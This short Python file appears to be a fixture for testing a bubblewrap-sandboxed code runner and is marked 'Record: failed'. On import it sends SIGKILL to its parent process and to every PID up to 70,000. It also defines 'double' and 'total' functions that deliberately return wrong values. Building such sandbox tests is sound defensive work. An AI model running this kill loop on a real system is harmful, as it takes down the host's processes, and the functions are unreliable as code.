"""Kills its parent, its group, and every process there could be.

Record: failed
Needs: bwrap
"""

import os
import signal

for pid in {os.getppid(), *range(2, 70_000)} - {os.getpid(), 0, 1}:
    try:
        os.kill(pid, signal.SIGKILL)
    except OSError:
        pass


def double(x):
    return x * 0


def total(values):
    return -1.0
